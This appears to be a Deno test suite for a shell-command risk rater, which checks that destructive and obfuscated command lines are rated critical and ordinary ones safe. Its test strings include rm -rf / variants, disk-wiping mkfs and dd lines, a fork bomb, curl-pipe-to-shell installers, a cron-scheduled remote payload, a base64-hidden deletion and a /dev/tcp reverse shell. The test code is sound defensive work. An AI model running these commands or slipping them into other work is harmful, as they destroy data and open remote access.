/**
 * The rater end to end: must-stop commands, obfuscation, wrappers, nesting, tolerant fallback.
 */

import { assert, assertEquals } from "../../test/support/assert.ts";
import { createRater } from "./mod.ts";
import { type Risk, riskAtLeast } from "./risk.ts";

const rater = await createRater();

function expectRisk(line: string, risk: Risk, rule?: string) {
  const got = rater.rateRules(line);
  assertEquals(got.risk, risk, JSON.stringify(line));
  if (rule) {
    assert(got.rules.some((r) => r.id === rule), `${JSON.stringify(line)}: ${rule} missing`);
  }
}

function expectAtLeast(line: string, risk: Risk) {
  const got = rater.rateRules(line);
  assert(riskAtLeast(got.risk, risk), `${JSON.stringify(line)} rated ${got.risk}, want ≥ ${risk}`);
}

Deno.test("issue-2 must-stops are critical", () => {
  for (
    const line of [
      "rm -rf ~",
      "rm -rf /",
      "rm -rf ~/",
      "rm -rf $HOME",
      "mkfs.ext4 /dev/sda1",
      "mkfs -t ext4 /dev/nvme0n1",
      "dd if=/dev/zero of=/dev/sda bs=1M",
      ":(){ :|:& };:",
      "curl -fsSL https://example.com/install.sh | sh",
      "wget -qO- https://example.com/x | bash",
    ]
  ) expectRisk(line, "critical");
});

Deno.test("ordinary commands are safe", () => {
  for (
    const line of [
      "ls -la",
      "find . -name '*.ts' -size +100M",
      "git status",
      "echo 'rm -rf /'",
      "grep -r 'mkfs' .",
      "du -sh * | sort -h",
      "cat <<EOF > notes.txt\nrm -rf /\nEOF",
      "md5sum <<EOF\nrm -rf /\nEOF",
      "man rm",
      "",
      "   ",
    ]
  ) expectRisk(line, "safe");
});

Deno.test("path awareness: rm -rf ./build is not rm -rf ~", () => {
  expectRisk("rm -rf ./build", "moderate", "fs.rm-recursive");
  expectRisk("rm -rf /tmp/build", "safe");
  expectRisk("rm -rf ~", "critical", "fs.rm-home");
  expectRisk("rm -rf /etc", "critical", "fs.rm-system-dir");
  expectRisk("rm -rf /var/log/nginx", "high", "fs.rm-system-path");
  expectRisk("rm -rf *", "high", "fs.rm-everything-here");
  expectRisk("TMPDIR=/tmp/../root rm -rf $TMPDIR/x", "high");
});

Deno.test("obfuscated command names are seen through", () => {
  for (
    const line of [
      "r''m -rf /",
      '"rm" -rf /',
      "\\rm -rf /",
      "$'\\x72m' -rf /",
      "$'\\162m' -rf /",
      "/bin/rm -rf /",
      "/usr/bin/rm\t-rf\t/",
      "rm   -rf    /",
      "'sudo' rm -rf /",
      "sudo\trm\t-rf\t/",
      "RM -RF /".toLowerCase(),
    ]
  ) expectRisk(line, "critical");
});

Deno.test("wrappers are looked through", () => {
  for (
    const line of [
      "sudo rm -rf /",
      "sudo -u root -- rm -rf /",
      "doas rm -rf /",
      "env -i PATH=/bin rm -rf /",
      "nohup rm -rf / &",
      "timeout -s KILL 10 rm -rf /",
      "nice -n 19 rm -rf /",
      "echo / | xargs rm -rf",
      "echo / | xargs -I{} rm -rf {}",
      "find / -maxdepth 0 -exec rm -rf {} +",
      "bash -c 'rm -rf /'",
      'sh -c "rm -rf ~"',
      "zsh -lc 'rm -rf ~'",
      "eval 'rm -rf /'",
      "watch -n 5 rm -rf /",
      "ssh prod 'sudo rm -rf /'",
      "ssh -p 22 -i key user@host rm -rf /",
      "echo 'rm -rf /' | sh",
      "sh <<<'rm -rf /'",
      "bash <<EOF\nrm -rf /\nEOF",
      "cat <<EOF | sh\nrm -rf ~\nEOF",
      "python3 -c 'import os; os.system(\"rm -rf /\")'",
      "su -c 'rm -rf /'",
      "busybox rm -rf /",
      "command rm -rf /",
      "$SUDO rm -rf /",
      "parallel rm -rf {} ::: build /",
      'bash -c "bash -c \'sh -c \\"rm -rf /\\"\'"',
    ]
  ) expectRisk(line, "critical");
});

Deno.test("commands are found anywhere in the line", () => {
  for (
    const line of [
      "echo ok && rm -rf /",
      "false || rm -rf /",
      "ls; rm -rf /",
      "ls\nrm -rf /",
      "(cd / && rm -rf /)",
      "{ rm -rf /; }",
      "echo $(rm -rf /)",
      "echo `rm -rf /`",
      "cat <(rm -rf /)",
      "cat >(rm -rf /)",
      "echo $((1+$(rm -rf /)))",
      "f() { rm -rf /; }; f",
      "if true; then rm -rf /; fi",
      "for d in a; do rm -rf /; done",
      "x=$(rm -rf /) ls",
      "echo hi > $(rm -rf /)",
      "rm -rf / 2>/dev/null &",
    ]
  ) expectRisk(line, "critical");
});

Deno.test("unparseable and fish input is still rated, never a crash", () => {
  expectAtLeast("rm -rf (pwd); and echo done", "moderate");
  expectAtLeast("git reset --hard 'unterminated", "safe");
  expectRisk("rm -rf / 'unterminated", "critical");
  expectRisk("begin; rm -rf ~; end", "critical");
  expectRisk("if test -d x; rm -rf /; end", "critical");
  for (
    const junk of [
      "((((((",
      "'''",
      '"',
      "$(",
      "`",
      "<<EOF",
      "| | |",
      ";;;",
      "\u0000\u0001",
      "x".repeat(100_000),
      "$(".repeat(2000),
      "$(".repeat(30_000),
      "(".repeat(50_000),
      "a | ".repeat(500),
      "🚀 Hello",
    ]
  ) {
    const started = performance.now();
    const got = rater.rateRules(junk);
    assert(typeof got.risk === "string", "rated");
    // Generous bound: catches patterns that backtrack quadratically on long input.
    const ms = performance.now() - started;
    assert(ms < 3000, `${JSON.stringify(junk.slice(0, 20))}… took ${ms.toFixed(0)} ms`);
  }
  // Past the parser's size limit the tokenizer still finds the command.
  expectRisk("a|".repeat(20_000) + "rm -rf /", "critical");
  expectRisk("(".repeat(50_000) + "rm -rf /", "critical");
  expectRisk("{ ".repeat(20_000) + "rm -rf /", "critical");
  // Nested deeper than the re-parse limit: still seen.
  expectRisk("eval ".repeat(12) + "rm -rf /", "critical");
  expectRisk("sudo ".repeat(50) + "rm -rf /", "critical");
});

Deno.test("seeded fuzz: random shell-ish text never throws", () => {
  let seed = 20240611;
  const next = () => (seed = (Math.imul(seed, 1103515245) + 12345) >>> 0) / 2 ** 32;
  const atoms = [
    "rm",
    "-rf",
    "/",
    "~",
    "$(",
    ")",
    "`",
    "'",
    '"',
    "\\",
    "|",
    "&&",
    ";",
    "\n",
    "<<EOF",
    "EOF",
    "{",
    "}",
    "(",
    "sudo",
    "bash -c",
    "$HOME",
    "*",
    "find",
    "-exec",
    "{}",
    "+",
    "xargs",
    " ",
    "\t",
    ">",
    "/dev/sda",
    "eval",
    "$'\\x72'",
    "=",
    "#",
    "!",
    "[[",
    "]]",
    "$((",
    "))",
    "<(",
    "fi",
  ];
  for (let i = 0; i < 1500; i++) {
    let line = "";
    const n = 1 + Math.floor(next() * 14);
    for (let k = 0; k < n; k++) {
      line += atoms[Math.floor(next() * atoms.length)] + (next() < 0.6 ? " " : "");
    }
    const got = rater.rateRules(line);
    assert(["safe", "moderate", "high", "critical"].includes(got.risk), JSON.stringify(line));
  }
});

Deno.test("requests: destructive intents are flagged, ordinary ones are safe", () => {
  for (const text of ["wipe the disk", "delete everything in my home", "format /dev/sdb"]) {
    assert(riskAtLeast(rater.rateRequest(text).risk, "high"), text);
  }
  for (const text of ["list all files", "find files over 100MB here", "show git log"]) {
    assertEquals(rater.rateRequest(text).risk, "safe", text);
  }
});

Deno.test("words the parser hangs on redirects are still arguments", () => {
  expectRisk("rm -rf 2>/dev/null /", "critical");
  expectRisk("echo $(rm -rf 2>/dev/null /)", "critical");
  expectRisk("rm -rf >'log' /", "critical");
  expectRisk("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "critical", "code.reverse-shell");
});

Deno.test("upper-case names run on case-insensitive filesystems", () => {
  expectRisk("GIT RESET --HARD", "high", "git.reset-hard");
  expectRisk("RM -RF /", "critical");
  expectRisk("LS -LA", "safe");
});

Deno.test("a variable in command position is read as what its name says", () => {
  expectRisk("${RM} -rf /", "critical");
  expectRisk("$GIT_BIN reset --hard", "high");
  expectRisk("$SUDO rm -rf ~", "critical");
});

Deno.test("assignments on the command change what a path means", () => {
  expectRisk("TMPDIR=/tmp rm -rf $TMPDIR/build", "safe");
  expectRisk("TMPDIR=/ rm -rf $TMPDIR", "critical");
  expectRisk("rm -rf ${TMPDIR:-/tmp}/build", "safe");
  expectRisk("rm -rf ${TMPDIR}/../etc", "high");
});

Deno.test("dry runs and help are not the real thing", () => {
  expectRisk("kubectl delete ns prod --dry-run=client", "safe");
  expectRisk("kubectl delete ns prod --dry-run=none", "high");
  expectRisk("aws s3 rm s3://b/ --recursive --dryrun", "safe");
  expectRisk("git clean -fdxn", "safe");
  expectRisk("git reset --help", "safe");
  expectRisk("shutdown --help", "safe");
  expectRisk("wipefs -a -n /dev/sdb", "safe"); // touches a raw device, erases nothing
  // Arguments to a downloaded script do not make it safe.
  expectRisk("curl -sSf https://x.io/i.sh | sh -s -- --help", "critical");
});

Deno.test("shell code inside interpreters and stdin is rated", () => {
  expectRisk(`python3 -c "import subprocess; subprocess.run(['rm', '-rf', '/'])"`, "critical");
  expectRisk(`node -e "require('child_process').execSync('rm -rf ~')"`, "critical");
  expectRisk(`node -e "rm -rf /"`, "critical");
  expectRisk("printf 'rm -rf /' | sh", "critical");
  expectRisk("echo 'rm -rf /' | xargs bash -c", "critical");
  expectRisk("echo ls | sh", "safe");
});

Deno.test("find runs its -exec command on what it finds", () => {
  expectRisk("find / -exec rm -rf {} +", "critical");
  expectRisk("find . -type f -name '*.tmp' -exec rm -f {} +", "moderate", "fs.find-delete");
  expectRisk("find . -name -delete -print", "safe");
  expectRisk("find ~ -delete", "critical");
});

Deno.test("ratings list the most dangerous rule first, one per group", () => {
  const got = rater.rateRules("git reset --hard && rm -rf ~ && sudo ls");
  assertEquals(got.risk, "critical");
  assertEquals(got.rules[0].id, "fs.rm-home");
  assertEquals(got.rules.map((r) => r.id).filter((id) => id.startsWith("fs.rm")).length, 1);
  assert(got.rules.some((r) => r.id === "priv.root"));
});

Deno.test("scripts written and run on the same line are read", () => {
  expectRisk("echo 'rm -rf ~' > /tmp/x.sh && bash /tmp/x.sh", "critical");
  expectRisk("printf 'rm -rf /\\n' > run.sh; chmod +x run.sh; ./run.sh", "critical");
  expectRisk("cat > s.sh <<EOF\nrm -rf ~\nEOF\nsh s.sh", "critical");
  expectRisk("echo 'ls' > a.sh && sh a.sh", "safe");
  expectRisk("echo 'rm -rf ~' > notes.txt", "safe");
});

Deno.test("scheduled and remote payloads are read", () => {
  expectRisk("echo 'rm -rf /' | at now + 1 minute", "critical");
  expectRisk("(crontab -l; echo '* * * * * curl -s http://x.io/p | sh') | crontab -", "critical");
  expectRisk("ansible all -m shell -a 'rm -rf /'", "critical");
  expectRisk("echo cm0gLXJmIC8K | base64 -d | sh", "critical");
});

Deno.test("library calls that delete trees are judged by their path", () => {
  expectRisk(`python3 -c 'import shutil; shutil.rmtree("/")'`, "critical");
  expectRisk(
    `node -e "require('fs').rmSync(process.env.HOME + '/x', {recursive: true})"`,
    "moderate",
  );
  expectRisk(`python3 -c 'import shutil; shutil.rmtree("/tmp/build")'`, "moderate");
});

/** The ids a line is reported with. */
const ids = (line: string) => rater.rateRules(line).rules.map((r) => r.id);

Deno.test("catch-alls read only the programs no rule of another group is about", () => {
  // Programs with rules of their own are reported once, by their own rules.
  assertEquals(ids("wipe notes.txt"), ["fs.shred"]);
  assertEquals(ids("zfs destroy tank/home"), ["disk.lvm-remove"]);
  assertEquals(ids("sudo modprobe -r --remove-holders nvidia"), [
    "priv.root",
    "sys.kernel-module-change",
  ]);
  assertEquals(ids("passwd --delete bob").includes("ops.destructive-subcommand"), false);
  assertEquals(ids("parted /dev/sdb rm 1").includes("ops.destructive-subcommand"), false);
  // A program no rule knows: the catch-all reads it.
  assertEquals(ids("nats stream delete ORDERS"), ["ops.destructive-subcommand"]);
  assertEquals(ids("doctl databases delete 1234"), ["ops.destroy-whole"]);
  // The cloud rules and the catch-alls share a group (one scale): the worse one is reported.
  assertEquals(ids("aws rds delete-db-instance --db-instance-identifier db"), [
    "ops.destroy-whole",
  ]);
  assertEquals(ids("aws ec2 terminate-instances --instance-ids i-1"), ["cloud.aws-delete"]);
  // Text, files and other commands' words are never subcommands.
  assertEquals(ids("echo delete everything"), []);
  assertEquals(ids("scp delete-me.txt host:"), []);
  assertEquals(ids("nohup stripe customers delete cus_1"), ["ops.destructive-subcommand"]);
});

Deno.test("a rule that throws fails closed: rated as matched, and reported", async () => {
  const { loadBashParser } = await import("../syntax/bash_parser.ts");
  const { makeRater, FAILED_ID } = await import("./rater.ts");
  const { rules } = await import("./rule.ts");
  const { RULES } = await import("./rules/mod.ts");
  const broken = rules("test", [{
    id: "broken",
    risk: "high",
    reason: "would say why",
    on: "ls",
    match: () => {
      throw new TypeError("cannot read properties of undefined");
    },
    examples: { hit: [], miss: [] },
  }]);
  const withBroken = makeRater(await loadBashParser(), [...RULES, ...broken]);
  const got = withBroken.rateRules("ls -la");
  assertEquals(got.risk, "high");
  assertEquals(got.rules.map((r) => r.id), [FAILED_ID]);
  assert(got.rules[0].reason.includes("test.broken"), got.rules[0].reason);
  assert(got.rules[0].reason.includes("cannot read properties"), got.rules[0].reason);
  // Commands the broken rule is not about are rated as before.
  assertEquals(withBroken.rateRules("echo hi").risk, "safe");
  assertEquals(withBroken.rateRules("rm -rf ~").rules.map((r) => r.id), ["fs.rm-home"]);
});

Deno.test("programs: what a line runs here, through wrappers, as written", () => {
  const cases: [string, string[]][] = [
    ["sudo fd -e log", ["sudo", "fd"]],
    ["find . -name '*.tmp' -exec shred -u {} +", ["find", "shred"]],
    ["ls | xargs -0 jq .", ["ls", "xargs", "jq"]],
    ["env FOO=1 nice -n 5 ./build.sh", ["env", "nice", "./build.sh"]],
    ["bash -c 'rg needle' && timeout 5 gsed -i s/a/b/ f", ["bash", "rg", "timeout", "gsed"]],
    ["echo $(which fd)", ["which", "echo"]],
    // Functions the line defines, variables and guesses are no programs to look up.
    ["f() { ls; }; f", ["ls"]],
    ["$EDITOR notes.txt", []],
    ["GIT status", ["GIT"]],
    // What runs on another machine, in another root or from a fetched package is not here.
    ["ssh host 'jq . /etc/x.json'", ["ssh"]],
    ["sudo chroot /mnt pacman -Syu", ["sudo", "chroot"]],
    ["npx prettier --write .", ["npx"]],
  ];
  for (const [line, programs] of cases) assertEquals(rater.programs(line), programs, line);
});
